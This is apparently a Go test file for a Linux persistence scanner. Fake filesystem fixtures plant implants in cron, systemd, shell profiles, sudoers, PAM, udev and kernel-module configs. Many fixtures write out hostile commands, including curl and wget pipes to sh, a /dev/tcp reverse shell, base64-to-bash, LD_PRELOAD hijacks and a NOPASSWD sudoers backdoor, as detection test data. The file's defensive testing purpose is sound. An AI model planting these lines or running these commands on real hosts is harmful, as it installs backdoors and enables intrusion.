package persist

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// One infection per location, on each stock root it applies to: the
// finding appears where expected, with at least the severity expected and
// the action that removes it.
func TestFindLocations(t *testing.T) {
	at := hosttest.InfectionTime
	dl := "curl -fsSL http://203.0.113.7/x.sh | sh"
	deb := hosttest.Debian12
	al := hosttest.AmazonLinux2023
	type tc struct {
		name string
		base func() hosttest.Tree
		add  func(hosttest.Tree) hosttest.Tree
		want want
	}
	entry := func(e hosttest.Entry) func(hosttest.Tree) hosttest.Tree {
		return func(t hosttest.Tree) hosttest.Tree { e.Mtime = at; return t.With(e) }
	}
	appendTo := func(p, text string) func(hosttest.Tree) hosttest.Tree {
		return func(t hosttest.Tree) hosttest.Tree { return t.Append(p, text, at) }
	}
	lines := func(base func() hosttest.Tree, p string) int {
		e, _ := base().Get(p)
		return strings.Count(e.Data, "\n") + 1
	}
	tests := []tc{
		{"etc-crontab-rhel", al, appendTo("/etc/crontab", "*/10 * * * * root "+dl+"\n"), want{"/etc/crontab", lines(al, "/etc/crontab"), KindCron, Critical, ActionRemoveLine}},
		{"cron.d", deb, entry(hosttest.Entry{Path: "/etc/cron.d/apache", Data: "*/3 * * * * root /var/tmp/.apache/httpd -c /var/tmp/.apache/c.json\n"}), want{"/etc/cron.d/apache", 1, KindCron, High, ActionRemoveLine}},
		{"cron.daily", deb, entry(hosttest.Entry{Path: "/etc/cron.daily/update", Data: "#!/bin/sh\n" + dl + "\n"}), want{"/etc/cron.daily/update", 0, KindCron, Critical, ActionQuarantine}},
		{"cron.weekly", al, entry(hosttest.Entry{Path: "/etc/cron.weekly/x", Data: "#!/bin/sh\n/dev/shm/.m/m --donate-level 1\n"}), want{"/etc/cron.weekly/x", 0, KindCron, Critical, ActionQuarantine}},
		{"cron.monthly-elf", deb, entry(hosttest.Entry{Path: "/etc/cron.monthly/sysupd", Data: hosttest.FakeELF("x")}), want{"/etc/cron.monthly/sysupd", 0, KindCron, High, ActionQuarantine}},
		{"anacrontab-rhel", al, appendTo("/etc/anacrontab", "1\t1\tjob\t"+dl+"\n"), want{"/etc/anacrontab", lines(al, "/etc/anacrontab"), KindCron, Critical, ActionRemoveLine}},
		{"user-crontab-rhel", al, entry(hosttest.Entry{Path: "/var/spool/cron/root", Data: "* * * * * " + dl + "\n", Mode: 0o600}), want{"/var/spool/cron/root", 1, KindCron, Critical, ActionRemoveLine}},
		{"user-crontab-unknown-user", deb, entry(hosttest.Entry{Path: "/var/spool/cron/crontabs/ghost", Data: "@reboot /usr/bin/true\n", Mode: 0o600}), want{"/var/spool/cron/crontabs/ghost", 0, KindCron, Medium, ActionQuarantine}},
		{"at-rhel", al, entry(hosttest.Entry{Path: "/var/spool/at/a00001019a2b3c", Data: "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root\n" + dl + "\n", Mode: 0o700}), want{"/var/spool/at/a00001019a2b3c", 0, KindAt, Critical, ActionQuarantine}},
		{"systemd-wants-link-to-tmp", deb, entry(hosttest.Entry{Path: "/etc/systemd/system/multi-user.target.wants/x.service", Link: "/tmp/.x/x.service"}), want{"/etc/systemd/system/multi-user.target.wants/x.service", 0, KindSystemd, High, ActionRemoveLink}},
		{"systemd-vendor-unit-modified", deb, func(t hosttest.Tree) hosttest.Tree {
			e, _ := t.Get("/usr/lib/systemd/system/ssh.service")
			e.Data = strings.Replace(e.Data, "ExecStartPre=/usr/sbin/sshd -t", "ExecStartPre=/usr/sbin/sshd -t\nExecStartPost=/bin/sh -c '"+dl+"'", 1)
			return t.With(e)
		}, want{"/usr/lib/systemd/system/ssh.service", 10, KindSystemd, Critical, ActionRemoveLine}},
		{"systemd-global-user-unit", al, entry(hosttest.Entry{Path: "/etc/systemd/user/agent.service", Data: "[Service]\nExecStart=/usr/bin/env LD_PRELOAD=/tmp/.l.so /usr/bin/sleep infinity\n"}), want{"/etc/systemd/user/agent.service", 2, KindSystemd, High, ActionDisableUnit}},
		{"systemd-timer-unit", al, func(t hosttest.Tree) hosttest.Tree {
			return t.With(
				hosttest.Entry{Path: "/etc/systemd/system/upd.timer", Data: "[Timer]\nOnCalendar=hourly\nUnit=helper.service\n[Install]\nWantedBy=timers.target\n", Mtime: at},
				hosttest.Entry{Path: "/etc/systemd/system/timers.target.wants/upd.timer", Link: "/etc/systemd/system/upd.timer"},
				hosttest.Entry{Path: "/etc/systemd/system/helper.service", Data: "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'echo Y3VybCB4fHNo | base64 -d | bash'\n", Mtime: at})
		}, want{"/etc/systemd/system/helper.service", 3, KindSystemd, Critical, ActionDisableUnit}},
		{"systemd-masked-security", deb, entry(hosttest.Entry{Path: "/etc/systemd/system/auditd.service", Link: "/dev/null"}), want{"/etc/systemd/system/auditd.service", 0, KindSystemd, High, ActionRemoveLink}},
		{"rc.local-rhel", al, entry(hosttest.Entry{Path: "/etc/rc.d/rc.local", Data: "#!/bin/bash\ntouch /var/lock/subsys/local\nnohup /tmp/.s/s >/dev/null &\n", Mode: 0o755}), want{"/etc/rc.d/rc.local", 3, KindRCLocal, High, ActionRemoveLine}},
		{"etc-profile", deb, appendTo("/etc/profile", dl+" >/dev/null 2>&1\n"), want{"/etc/profile", lines(deb, "/etc/profile"), KindShellProfile, Critical, ActionRemoveLine}},
		{"etc-bash.bashrc", deb, appendTo("/etc/bash.bashrc", "export LD_PRELOAD=/usr/lib/.x/libx.so\n"), want{"/etc/bash.bashrc", lines(deb, "/etc/bash.bashrc"), KindShellProfile, High, ActionRemoveLine}},
		{"etc-bashrc-rhel", al, appendTo("/etc/bashrc", "unset HISTFILE; history -c\n"), want{"/etc/bashrc", lines(al, "/etc/bashrc"), KindShellProfile, High, ActionRemoveLine}},
		{"user-profile", al, appendTo("/home/ec2-user/.bash_profile", "/var/tmp/.u/u &\n"), want{"/home/ec2-user/.bash_profile", lines(al, "/home/ec2-user/.bash_profile"), KindShellProfile, High, ActionRemoveLine}},
		{"user-zshrc", deb, entry(hosttest.Entry{Path: "/home/admin/.zshrc", Data: "bash -i >& /dev/tcp/198.51.100.9/443 0>&1 &\n"}), want{"/home/admin/.zshrc", 1, KindShellProfile, Critical, ActionRemoveLine}},
		{"environment", deb, appendTo("/etc/environment", "LD_PRELOAD=/dev/shm/.l.so\n"), want{"/etc/environment", lines(deb, "/etc/environment"), KindShellProfile, High, ActionRemoveLine}},
		{"authorized_keys-command", al, appendTo("/home/ec2-user/.ssh/authorized_keys", `command="/tmp/.k/k; exec $SHELL" `+hosttest.AuthorizedKey("x", "x")+"\n"), want{"/home/ec2-user/.ssh/authorized_keys", 2, KindSSHKey, High, ActionRemoveLine}},
		{"passwd-odd-shell", deb, appendTo("/etc/passwd", "sys2:x:998:998::/var/lib/sys2:/tmp/.sh\n"), want{"/etc/passwd", lines(deb, "/etc/passwd"), KindAccount, Critical, ActionRestoreAccount}},
		{"passwd-unlisted-shell", al, appendTo("/etc/passwd", "backup2:x:1001:1001::/home/backup2:/usr/local/bin/rsh\n"), want{"/etc/passwd", lines(al, "/etc/passwd"), KindAccount, High, ActionRestoreAccount}},
		{"passwd-empty-password", deb, appendTo("/etc/passwd", "guest::1002:1002::/home/guest:/bin/bash\n"), want{"/etc/passwd", lines(deb, "/etc/passwd"), KindAccount, High, ActionRestoreAccount}},
		{"sudoers-all", al, appendTo("/etc/sudoers", "ALL ALL=(ALL) NOPASSWD: ALL\n"), want{"/etc/sudoers", lines(al, "/etc/sudoers"), KindSudoers, Critical, ActionRemoveLine}},
		{"sudoers-noauth", deb, entry(hosttest.Entry{Path: "/etc/sudoers.d/zz", Data: "Defaults !authenticate\n", Mode: 0o440}), want{"/etc/sudoers.d/zz", 1, KindSudoers, High, ActionRemoveLine}},
		{"udev-lib", al, entry(hosttest.Entry{Path: "/usr/lib/udev/rules.d/10-net.rules", Data: "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '" + dl + "'\"\n"}), want{"/usr/lib/udev/rules.d/10-net.rules", 1, KindUdev, Critical, ActionQuarantine}},
		{"motd-modified", hosttest.Ubuntu2204, appendTo("/etc/update-motd.d/00-header", dl+" &\n"), want{"/etc/update-motd.d/00-header", 0, KindMotd, Critical, ActionQuarantine}},
		{"init.d-rhel", al, entry(hosttest.Entry{Path: "/etc/init.d/network-helper", Data: "#!/bin/sh\n" + dl + "\n"}), want{"/etc/init.d/network-helper", 0, KindInitd, Critical, ActionQuarantine}},
		{"hosts-redirect", al, appendTo("/etc/hosts", "198.51.100.20 github.com\n"), want{"/etc/hosts", lines(al, "/etc/hosts"), KindHosts, High, ActionRemoveLine}},
		{"sshd-keys-file", deb, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config.d/50-keys.conf", Data: "# keys\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.ssh/k\n"}), want{"/etc/ssh/sshd_config.d/50-keys.conf", 2, KindSSHConfig, High, ActionRemoveLine}},
		{"sshd-keys-command", al, entry(hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "PermitRootLogin no\nAuthorizedKeysCommand /bin/sh -c 'curl -s http://203.0.113.7/k'\nAuthorizedKeysCommandUser root\n"}), want{"/etc/ssh/sshd_config", 2, KindSSHConfig, Medium, ActionRemoveLine}},
		{"trojaned-ps", deb, func(t hosttest.Tree) hosttest.Tree {
			t = t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")}).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps", "/usr/bin/top", "/usr/bin/pgrep", "/usr/bin/kill", "/usr/share/doc/procps/README"}})
			return t.With(hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("ps that hides kdevtmpfsi")})
		}, want{"/usr/bin/ps", 0, KindPackageFile, High, ActionNone}},
		{"systemd-default-environment", deb, entry(hosttest.Entry{Path: "/etc/systemd/system.conf", Data: "[Manager]\n#DefaultTimeoutStartSec=90s\nDefaultEnvironment=LD_PRELOAD=/usr/lib/.x/l.so\n"}), want{"/etc/systemd/system.conf", 3, KindSystemd, High, ActionRemoveLine}},
		{"ld.so.conf.d", al, entry(hosttest.Entry{Path: "/etc/ld.so.conf.d/x.conf", Data: "/usr/lib64/mysql\n/dev/shm/.lib\n"}), want{"/etc/ld.so.conf.d/x.conf", 2, KindLibraryPath, High, ActionRemoveLine}},
		{"pam-exec", deb, entry(hosttest.Entry{Path: "/etc/pam.d/sshd", Data: "@include common-auth\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log\n"}), want{"/etc/pam.d/sshd", 2, KindPAM, High, ActionRemoveLine}},
		{"xdg-autostart", deb, entry(hosttest.Entry{Path: "/home/admin/.config/autostart/upd.desktop", Data: "[Desktop Entry]\nType=Application\nExec=sh -c 'wget -qO- http://203.0.113.7/a | sh'\n"}), want{"/home/admin/.config/autostart/upd.desktop", 3, KindAutostart, Critical, ActionQuarantine}},
		{"kernel-module-rootkit", deb, func(t hosttest.Tree) hosttest.Tree {
			return t.With(
				hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.dep", Data: "kernel/fs/ext4/ext4.ko: kernel/lib/crc16.ko kernel/fs/jbd2/jbd2.ko kernel/fs/mbcache.ko\nkernel/net/ipv4/tcp_bbr.ko:\n"},
				hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.builtin", Data: "kernel/drivers/block/loop.ko\n"},
				hosttest.Entry{Path: "/etc/modules-load.d/net.conf", Data: "# tuning\ntcp_bbr\nloop\ndiamorphine\n", Mtime: at},
			)
		}, want{"/etc/modules-load.d/net.conf", 4, KindKernelModule, High, ActionRemoveLine}},
		{"modprobe-install-hook", al, entry(hosttest.Entry{Path: "/etc/modprobe.d/x.conf", Data: "install usb_storage /bin/true\ninstall ext4 /sbin/insmod /var/tmp/.m/r.ko; /sbin/modprobe --ignore-install ext4\n"}), want{"/etc/modprobe.d/x.conf", 2, KindKernelModule, High, ActionRemoveLine}},
		{"preload-missing-lib", al, entry(hosttest.Entry{Path: "/etc/ld.so.preload", Data: "/lib64/.libc.so.6\n"}), want{"/etc/ld.so.preload", 1, KindPreload, Critical, ActionRemoveLine}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := build(t, tt.add(tt.base()))
			fs := find(t, dir, time.Time{})
			checkWant(t, fs, []want{tt.want})
			if t.Failed() {
				t.Log(dump(fs))
			}
		})
	}
}

func TestStockSSHConfigAndToolsStayInfo(t *testing.T) {
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: "/etc/ssh/sshd_config", Data: "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\nSubsystem	sftp	/usr/lib/openssh/sftp-server\n"},
		hosttest.Entry{Path: "/usr/bin/ps", Data: hosttest.FakeELF("procps ps")},
	).WithDpkg(hosttest.Package{Name: "procps", Files: []string{"/bin/ps", "/usr/bin/top", "/usr/bin/pgrep", "/usr/bin/kill", "/usr/share/doc/procps/README"}})
	dir := build(t, tree)
	for _, f := range find(t, dir, time.Time{}) {
		if f.Severity > Info {
			t.Errorf("stock: %s", f)
		}
	}
}

func TestDeletedExesLive(t *testing.T) {
	src, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Skip("no /bin/sleep")
	}
	exe := filepath.Join(t.TempDir(), "sleepx")
	if err := os.WriteFile(exe, src, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "30")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	if err := os.Remove(exe); err != nil {
		t.Fatal(err)
	}
	var pids []int
	for i := 0; i < 50 && len(pids) == 0; i++ {
		pids = deletedExes()[exe]
		time.Sleep(10 * time.Millisecond)
	}
	if len(pids) != 1 || pids[0] != cmd.Process.Pid {
		t.Errorf("deletedExes()[%s] = %v, want [%d]", exe, pids, cmd.Process.Pid)
	}
}

func TestModulesShippedStayInfo(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/usr/lib/modules/6.1.0-18-cloud-amd64/modules.dep", Data: "kernel/net/ipv4/tcp_bbr.ko.xz:\nkernel/drivers/net/wireguard/wireguard.ko: kernel/lib/crypto/libchacha20poly1305.ko\n"},
		hosttest.Entry{Path: "/etc/modules-load.d/modules.conf", Data: "# /etc/modules: kernel modules to load at boot time.\ntcp-bbr\nwireguard\n"},
		hosttest.Entry{Path: "/etc/modprobe.d/blacklist.conf", Data: "blacklist floppy\ninstall cramfs /bin/true\n"},
	))
	n := 0
	for _, f := range find(t, dir, time.Time{}) {
		if f.Kind == KindKernelModule {
			n++
			if f.Severity > Info {
				t.Errorf("shipped module flagged: %s", f)
			}
		}
	}
	if n != 2 {
		t.Errorf("%d module findings, want 2 (inventory)", n)
	}
}
